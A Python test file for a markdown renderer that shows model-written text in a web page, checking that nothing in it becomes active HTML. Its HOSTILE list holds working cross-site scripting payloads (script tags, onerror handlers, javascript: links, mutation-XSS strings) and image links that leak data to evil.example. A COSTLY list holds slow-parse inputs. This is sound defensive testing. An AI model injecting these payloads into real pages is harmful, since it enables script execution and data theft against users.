"""Markdown that a model wrote: what it may say, and all that it may not do."""

from html.parser import HTMLParser

from hypothesis import example, given, settings
from hypothesis import strategies as st
import pytest

from laurels.web.markdown import TAGS, Note, render_markdown


class Found(HTMLParser):
    """The elements of a piece of HTML, with their attributes, as a browser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(str(html))  # a `Markup` would escape what is taken from it
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def three_notes(number: int) -> Note | None:
    """Three sources."""
    return Note(f"#source-{number}", f"Source {number}") if 1 <= number <= 3 else None


def require_harmless(html: str) -> Found:
    """Fail where there is anything in it that could do something."""
    found = Found(html)
    for tag, attributes in found.elements:
        assert tag in TAGS, html
        assert set(attributes) <= {"href", "class", "aria-label", "start", "tabindex"}, html
        assert str(attributes.get("href") or "#").startswith("#"), html
    return found


HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><button>Sign in</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import 'https://evil.example';</style>",
    "<base href=https://evil.example>",
    "<!--><script>alert(1)</script>-->",
    "![spy](https://evil.example/?q=secret)",
    "![spy][1]\n\n[1]: https://evil.example/p.png",
    '![a](x "onerror=alert(1)")',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example)",
    '[x](https://evil.example "title" onmouseover=alert(1))',
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<https://evil.example/'onmouseover='alert(1)>",
    "[1]: https://evil.example\n\nSee [1].",
    "[1](https://evil.example)",
    '```"><script>alert(1)</script>\ncode\n```',
    "`</code><script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> ![x](https://evil.example) |",
    "# <img src=x onerror=alert(1)>",
    "> - 1. <svg onload=alert(1)> [x](javascript:1)",
    "<b onclick=alert(1)>bold</b>\u0000<script>",
    "\\<script\\>alert(1)\\</script\\>",
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("around", ["{}", "> {}", "- {}", "**{}**", "Before [1] {}\n\nAfter [2, 3]"])
def test_nothing_hostile_becomes_an_element(text: str, around: str) -> None:
    require_harmless(render_markdown(around.format(text), three_notes))


@settings(deadline=None)
@given(st.lists(st.sampled_from([*HOSTILE, *"<>[]()!`*_#|\"'&:-\n ", "[1]", "](", "![", "<a", "href=", "```\n"]), max_size=12).map("".join))
@example("[![[1]](x)](javascript:1)")
def test_no_mixture_becomes_an_element(text: str) -> None:
    require_harmless(render_markdown(text, three_notes))


def test_what_is_hidden_by_other_renderers_is_shown_as_words() -> None:
    assert require_harmless(render_markdown("See ![the plot](https://x.example/p.png).")).text == "See the plot.\n"
    assert require_harmless(render_markdown("See [the book](https://x.example).")).text == "See the book.\n"
    assert require_harmless(render_markdown("See <https://x.example>.")).text == "See https://x.example.\n"
    assert require_harmless(render_markdown("a <b>c</b>")).text == "a <b>c</b>\n"


def test_paragraphs_lists_tables_and_code_are_kept() -> None:
    table, code = "| a | b |\n|---|--:|\n| 1 | 2 |", "```py\nif a < b:\n```"
    parts = ("Work is *force* times **way**.", "3. one\n4. two", table, code, "> said", "~~old~~ `x`")
    found = require_harmless(render_markdown("\n\n".join(parts)))
    lists_and_table = ["p", "em", "strong", "ol", "li", "li", "div", "table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td"]
    assert [tag for tag, _ in found.elements] == [*lists_and_table, "pre", "code", "blockquote", "p", "p", "s", "code"]
    assert ("ol", {"start": "3"}) in found.elements
    assert ("td", {"class": "figure"}) in found.elements
    assert "if a < b:" in found.text


def test_headings_skip_no_level() -> None:
    assert [tag for tag, _ in Found(render_markdown("###### deep\n\n# top\n\nunder\n---")).elements] == ["h3", "h3", "h3"]


def test_known_numbers_lead_to_their_notes() -> None:
    html = render_markdown("Kept [1]. Both [2, 3]; not [7], nor [1, 7], nor `x[1]`.", three_notes)
    links = [attributes for tag, attributes in require_harmless(html).elements if tag == "a"]
    assert links == [{"class": "cite", "href": f"#source-{number}", "aria-label": f"Source {number}"} for number in (1, 2, 3)]
    assert Found(html).text == "Kept 1. Both 23; not [7], nor [1, 7], nor x[1].\n"


def test_without_notes_numbers_stay_as_they_are() -> None:
    assert render_markdown("Kept [1].") == "<p>Kept [1].</p>\n"


def test_labels_are_escaped() -> None:
    html = render_markdown("[1]", lambda number: Note("#source-1", '"><script>alert(1)</script>'))
    assert require_harmless(html).elements[1][1]["aria-label"] == '"><script>alert(1)</script>'


def test_notes_that_lead_elsewhere_lose_their_address() -> None:
    assert "evil" not in render_markdown("[1]", lambda number: Note("https://evil.example", "Source"))


@pytest.mark.parametrize("piece", ["[", "![", "*a ", "_a ", "> ", "- ", "`", "[1", "<", "|a", "[a](", "**[1]"])
def test_long_texts_of_one_sign_are_harmless(piece: str) -> None:
    require_harmless(render_markdown(piece * (20_000 // len(piece)), three_notes))


COSTLY = {
    "brackets": "[" * 40_000,
    "images": "![" * 20_000,
    "brackets among words": "[ *a* " * 8_000,
    "some images among words": "![" * 50 + "*a " * 16_000,
    "lists in brackets": "[1,1,1,1" * 5_000,
    "a table that fills itself up": "|a" * 500 + "\n" + "|-" * 500 + "\n" + "|\n" * 500,
    "a table without strokes in its rows": "|a" * 500 + "\n" + "|-" * 500 + "\n" + "b\n" * 500,
    "all that is kept of an answer": "**a_ [1] `" * 10_000,
}


@pytest.mark.parametrize("kind", COSTLY)
def test_what_would_take_long_is_shown_as_it_is_written(kind: str) -> None:
    found = require_harmless(render_markdown(COSTLY[kind], three_notes))
    assert found.text.split() == COSTLY[kind].split()
    assert {tag for tag, _ in found.elements} <= {"p", "br"}


def test_what_is_shown_as_it_is_written_can_do_nothing_either() -> None:
    found = require_harmless(render_markdown("<script>alert(1)</script>\n[x](javascript:1)\n\n" + "[" * 2_000))
    assert [tag for tag, _ in found.elements] == ["p", "br", "p"]
    assert found.text.startswith("<script>alert(1)</script>\n[x](javascript:1)\n[[[")


def test_code_and_sources_with_many_brackets_are_marked_up() -> None:
    code, cited = "```\n" + "a[i][j] = b[0]\n" * 500 + "```\n\n", "It is so [1], and so [7]. " * 400
    elements = [tag for tag, _ in require_harmless(render_markdown(code + cited, three_notes)).elements]
    assert (elements.count("code"), elements.count("a")) == (1, 400)
